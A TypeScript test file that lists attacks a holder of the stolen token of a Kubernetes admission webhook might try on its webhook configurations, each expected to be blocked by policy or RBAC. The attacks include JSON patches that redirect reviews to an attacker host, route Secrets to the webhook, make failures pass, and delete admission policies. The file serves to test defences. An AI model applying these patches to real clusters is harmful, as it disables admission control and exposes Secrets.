/** What whoever stole the token of the webhook cannot do, with every process of ours down. */

import {
  create,
  jsonPatch,
  mergePatch,
  type Request,
  remove,
  update,
} from '../../../support/admission/request.ts';
import { type Expected, policy, type Row, rbac } from './row.ts';

import { at } from './world.ts';

const NOT_ITS_BUNDLE: Expected = policy(
  'fence-webhook-validating',
  'webhooks: the webhook of agent-trust writes the caBundle of its configurations, and nothing else',
);
const NOT_METADATA: Expected = policy(
  'fence-webhook-validating',
  'metadata: the webhook of agent-trust writes the caBundle of its configurations, and nothing else',
);
const NOT_ITS_POD_BUNDLE: Expected = policy(
  'fence-webhook-mutating',
  'webhooks: the webhook of agent-trust writes the caBundle of its configurations, and nothing else',
);

const user = 'webhook';
const VALIDATING = at('ValidatingWebhookConfiguration', 'agent-trust');
const MUTATING = at('MutatingWebhookConfiguration', 'agent-trust');
const CALL = '/webhooks/0/clientConfig';

function attack(does: string, request: Request, answer: Expected): Row {
  return { user, does, request, answer };
}

const replace = (path: string, value: unknown): object => ({ op: 'replace', path, value });
const taken = (path: string): object => ({ op: 'remove', path });

/** See the file. */
export const WEBHOOK_ATTACKS: readonly Row[] = [
  attack(
    'sends reviews to another namespace',
    jsonPatch(VALIDATING, replace(`${CALL}/service/namespace`, 'elsewhere')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'sends reviews to another path',
    jsonPatch(VALIDATING, replace(`${CALL}/service/path`, '/yes')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'sends reviews to a host of its own',
    jsonPatch(
      VALIDATING,
      { op: 'remove', path: `${CALL}/service` },
      { op: 'add', path: `${CALL}/url`, value: 'https://attack.example.org/' },
    ),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'lets its own absence pass',
    jsonPatch(VALIDATING, replace('/webhooks/0/failurePolicy', 'Ignore')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'has nothing reviewed by rules',
    jsonPatch(VALIDATING, replace('/webhooks/0/rules', [])),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'has everything reviewed',
    jsonPatch(
      MUTATING,
      replace('/webhooks/0/rules', [
        { apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], operations: ['*'] },
      ]),
    ),
    NOT_ITS_POD_BUNDLE,
  ),
  attack(
    'has Secrets sent to itself',
    jsonPatch(MUTATING, replace('/webhooks/0/rules/0/resources', ['secrets'])),
    NOT_ITS_POD_BUNDLE,
  ),
  attack(
    'selects other namespaces',
    jsonPatch(VALIDATING, replace('/webhooks/0/namespaceSelector', {})),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'selects no object',
    jsonPatch(VALIDATING, replace('/webhooks/0/objectSelector', { matchLabels: { none: 'such' } })),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'takes the conditions away that let a kill pass',
    jsonPatch(VALIDATING, taken('/webhooks/1/matchConditions')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'adds a condition that is never true',
    jsonPatch(VALIDATING, {
      op: 'add',
      path: '/webhooks/0/matchConditions/-',
      value: { name: 'never', expression: 'false' },
    }),
    NOT_ITS_BUNDLE,
  ),
  attack('takes a webhook away', jsonPatch(VALIDATING, taken('/webhooks/0')), NOT_ITS_BUNDLE),
  attack(
    'adds a webhook',
    jsonPatch(VALIDATING, {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'attack.agenttrust.dev',
        clientConfig: { url: 'https://attack.example.org/' },
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
      },
    }),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'renames a webhook',
    jsonPatch(VALIDATING, replace('/webhooks/0/name', 'attack.agenttrust.dev')),
    NOT_ITS_BUNDLE,
  ),
  attack('waits longer', jsonPatch(VALIDATING, replace('/webhooks/0/timeoutSeconds', 30)), NOT_ITS_BUNDLE),
  attack(
    'says it has side effects',
    jsonPatch(VALIDATING, replace('/webhooks/0/sideEffects', 'NoneOnDryRun')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'matches exactly',
    jsonPatch(VALIDATING, replace('/webhooks/0/matchPolicy', 'Exact')),
    NOT_ITS_BUNDLE,
  ),
  attack(
    'is not asked again',
    jsonPatch(MUTATING, replace('/webhooks/0/reinvocationPolicy', 'Never')),
    NOT_ITS_POD_BUNDLE,
  ),
  attack(
    'labels its configuration',
    mergePatch(VALIDATING, { metadata: { labels: { x: 'y' } } }),
    NOT_METADATA,
  ),
  attack(
    'annotates its configuration',
    mergePatch(VALIDATING, { metadata: { annotations: { x: 'y' } } }),
    NOT_METADATA,
  ),
  attack(
    'has its configuration collected as garbage',
    mergePatch(VALIDATING, {
      metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'gone', uid: 'gone' }] },
    }),
    NOT_METADATA,
  ),
  attack(
    'puts a finalizer on its configuration',
    mergePatch(VALIDATING, { metadata: { finalizers: ['example.org/hold'] } }),
    NOT_METADATA,
  ),
  attack('replaces its configuration', update(VALIDATING, { webhooks: [] }), rbac),
  attack('deletes its configuration', remove(VALIDATING), rbac),
  attack(
    'creates another configuration',
    create({ kind: 'MutatingWebhookConfiguration', metadata: { name: 'attack' } }),
    rbac,
  ),
  attack(
    'patches the configuration of somebody else',
    mergePatch(at('ValidatingWebhookConfiguration', 'other'), {}),
    rbac,
  ),
  attack(
    'deletes an admission policy',
    remove(at('ValidatingAdmissionPolicy', 'agent-trust-fence-webhook-validating')),
    rbac,
  ),
  attack(
    'deletes the binding of an admission policy',
    remove(at('ValidatingAdmissionPolicyBinding', 'agent-trust-fence-webhook-validating')),
    rbac,
  ),
];
